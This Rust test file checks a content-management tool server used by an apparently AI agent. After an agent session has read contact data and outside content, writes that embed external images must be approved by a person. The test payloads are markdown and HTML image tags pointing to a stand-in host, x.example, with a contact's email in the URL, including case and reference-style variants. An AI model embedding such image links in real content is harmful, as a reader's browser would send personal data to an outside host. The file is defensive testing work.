//! Pages whose pictures a browser would fetch from outside: once a session has read both, a person sees that first.

use serde_json::{Value, json};

use super::{
    desk::Desk,
    question::{Says as Person, ask},
};
use crate::common::{BOTH_ERAS, Era, Server};

const PICTURE: &str = "Hello ![ ](https://x.example/?d=ada@example.com) there";

/// Reads data of people and a text from outside.
fn expose(server: &mut Server) {
    server.call("getContact", json!({ "all": true })).ok();
    server.call("browseImages", json!({ "query": "sea", "provider": "placeholder" })).ok();
}

/// A desk that has a customer, a page and a post.
fn furnished(era: Era) -> (Desk, String) {
    let mut desk = Desk::open(era, &[]);
    desk.run(&["agent", "set", "assistant", "--profile", "admin"]);
    desk.restart();
    desk.ok("createContact", json!({ "name": "Ada", "email": "ada@example.com" }));
    let page = desk.page("About");
    desk.ok(
        "createPost",
        json!({ "collectionSlug": "blog", "title": "Snow", "content": { "body": "It fell." } }),
    );
    (desk, page)
}

fn section(page: &str, body: &str) -> Value {
    json!({ "pageId": page, "templateKey": "text", "content": { "body": body } })
}

#[test]
fn a_picture_from_outside_is_asked_about_in_every_write_and_a_link_is_not() {
    for era in BOTH_ERAS {
        let (mut desk, page) = furnished(era);
        let plain = desk.section(&page, "Nothing yet");
        let mut server = desk.asking(&[]);
        // Who has not read both writes as ever.
        server.call("createSection", section(&page, PICTURE)).ok();
        expose(&mut server);
        for (tool, write) in [
            ("createSection", section(&page, PICTURE)),
            ("createSection", section(&page, "<IMG alt='x' src=HTTPS://x.example/ada>")),
            ("createSection", section(&page, "<image src=https://x.example/ada>")),
            ("createSection", section(&page, "![a][b]\n\n[b]: http://x.example/ada")),
            ("updateSection", json!({ "pageSectionId": plain, "content": { "body": PICTURE } })),
            ("updatePost", json!({ "slug": "snow", "content": { "body": PICTURE } })),
            (
                "createPost",
                json!({ "collectionSlug": "blog", "title": "Ice", "content": { "body": PICTURE } }),
            ),
        ] {
            let before = desk.contents();
            let open = ask(&mut server, era, tool, write.clone());
            let question = open.text();
            assert!(question.starts_with("Texts from outside and data of people have been read. "));
            assert!(
                question.contains("– a browser would fetch: “http")
                    || question.contains("– a browser would fetch: “HTTP"),
                "{question}"
            );
            assert!(question.contains("x.example/"), "{question}");
            open.answer(&mut server, &Person::No).refused("CONFIRMATION_DECLINED");
            for table in ["section", "post"] {
                assert_eq!(desk.contents()[table], before[table], "{tool} {write}");
            }
        }
        // What is too long for the question is whole elsewhere.
        let long = format!("{}{PICTURE}", "It rained. ".repeat(1_000));
        let open = ask(&mut server, era, "createSection", section(&page, &long));
        let question = open.text();
        assert!(question.contains("– a browser would fetch: “https://x.example/"), "{question}");
        let (_, rest) = question.split_once("`deskhand proposals show ").unwrap();
        let (token, _) = rest.split_once('`').unwrap();
        let whole = desk.json(&["proposals", "show", token]);
        assert_eq!(whole["fetched"], json!(["https://x.example/?d=ada@example.com"]));
        let spoken = desk.tries(&["proposals", "show", token]);
        let spoken = String::from_utf8_lossy(&spoken.stdout).into_owned();
        assert!(spoken.contains("a browser would fetch https://x.example/"), "{spoken}");
        open.answer(&mut server, &Person::No).refused("CONFIRMATION_DECLINED");
        let open = ask(&mut server, era, "createSection", section(&page, PICTURE));
        let done = open.answer(&mut server, &Person::Yes).ok();
        assert!(done["changeId"].is_string(), "{done}");
        // What is there already, a link, and a picture of the site are nothing new.
        let id = done["data"]["pageSectionId"].clone();
        let again = json!({ "pageSectionId": id, "content": { "body": format!("{PICTURE} [more](https://x.example/?d=ada) ![](/uploads/a.webp)") } });
        server.call("updateSection", again).ok();
        // Bringing one back is a write like any other.
        let less = server
            .call("updateSection", json!({ "pageSectionId": id, "content": { "body": "Less" } }))
            .ok();
        let open = ask(&mut server, era, "undoChange", json!({ "changeId": less["changeId"] }));
        open.answer(&mut server, &Person::No).refused("CONFIRMATION_DECLINED");
    }
}

#[test]
fn where_nobody_can_be_asked_it_waits_for_a_person() {
    let (desk, page) = furnished(Era::Modern);
    let mut server = desk.colleague("assistant");
    expose(&mut server);
    let proposed = server.call("createSection", section(&page, PICTURE)).ok();
    assert_eq!(proposed["proposed"], true, "{proposed}");
    let again = server.call("createSection", section(&page, PICTURE)).ok();
    assert_eq!(again["proposalId"], proposed["proposalId"], "the same call is the same proposal");
    // Whoever decides sees what a browser would fetch, wherever they look.
    let address = "https://x.example/?d=ada@example.com";
    let number = proposed["proposalId"].as_str().unwrap();
    let [one, listed] = [desk.json(&["proposals", "show", number]), desk.json(&["proposals"])];
    assert_eq!(one["fetched"], json!([address]));
    let told = format!("\"fetched\":[\"{address}\"]");
    assert!(listed.to_string().contains(&told), "{listed}");
    let spoken = desk.tries(&["proposals", "show", number]);
    let spoken = String::from_utf8_lossy(&spoken.stdout).into_owned();
    assert!(spoken.contains(&format!("a browser would fetch {address}")), "{spoken}");
    // What waits can be so large; what is only written can be larger.
    let long = "雪".repeat(190_000);
    let post = |title: &str, body: &str| json!({ "collectionSlug": "blog", "title": title, "content": { "body": body } });
    server.call("createPost", post("Ice", &long)).ok()["changeId"].as_str().unwrap();
    let pictured = post("Rain", &format!("{long}{PICTURE}"));
    server.call("createPost", pictured).refused("PROPOSAL_TOO_LARGE");
    let known = desk.json(&["proposals", "show", "1"]);
    assert!(
        known["changes"].to_string().contains("https://x.example/?d=ada@example.com"),
        "{known}"
    );
    desk.run(&["proposals", "approve", "1"]);
    server.call("createSection", section(&page, "No picture, [a link](https://x.example).")).ok()["changeId"]
        .as_str()
        .unwrap();
    let shown = server.call("getPage", json!({ "id": page, "includeContent": true })).ok();
    assert!(shown.to_string().contains("x.example/?d=ada"), "{shown}");
}

#[test]
fn a_no_is_a_no_and_a_yes_is_for_what_was_shown_also_in_another_process() {
    let (mut desk, page) = furnished(Era::Modern);
    let mut server = desk.asking(&[]);
    expose(&mut server);
    let before = desk.contents()["section"].clone();
    let open = ask(&mut server, Era::Modern, "createSection", section(&page, PICTURE));
    // One that has read nothing would write it as any other.
    let state = open.state.clone();
    let mut next = desk.asking(&[]);
    open.bring_back(&mut next, &Person::No, state.clone()).refused("CONFIRMATION_DECLINED");
    open.bring_back(&mut next, &Person::Yes, state).refused("CONFIRMATION_INVALID");
    assert_eq!(desk.contents()["section"], before);
    let open = ask(&mut server, Era::Modern, "createSection", section(&page, PICTURE));
    let mut next = desk.asking(&[]);
    open.bring_back(&mut next, &Person::Yes, open.state.clone()).ok()["changeId"].as_str().unwrap();
    // What would be another place by now is not what was shown.
    let open =
        ask(&mut server, Era::Modern, "createSection", section(&page, "![](https://x.example/b)"));
    desk.section(&page, "In between");
    let before = desk.contents()["section"].clone();
    let id = next.send(
        "tools/call",
        json!({ "name": "createSection", "arguments": open.arguments, "requestState": open.state,
                "inputResponses": { "confirm": Person::Yes.result() } }),
    );
    assert_eq!(next.reply(id)["result"]["resultType"], "input_required");
    assert_eq!(desk.contents()["section"], before);
}

#[test]
fn the_models_word_publishes_no_picture_from_outside() {
    let (desk, _) = furnished(Era::Modern);
    let mut server = desk.colleague("assistant");
    expose(&mut server);
    let publish =
        |body: &str| json!({ "slug": "snow", "status": "published", "content": { "body": body } });
    let mut confirmed = publish(PICTURE);
    confirmed["confirmed"] = true.into();
    for call in [publish(PICTURE), confirmed] {
        assert_eq!(server.call("updatePost", call).ok()["proposed"], true);
    }
    assert_eq!(desk.json(&["proposals"])["count"], 1, "both are the same call");
    let shown = server.call("updatePost", publish("It fell, and [more](https://x.example).")).ok();
    assert_eq!(shown["requiresConfirmation"], true, "a link is shown as any publication is");
}
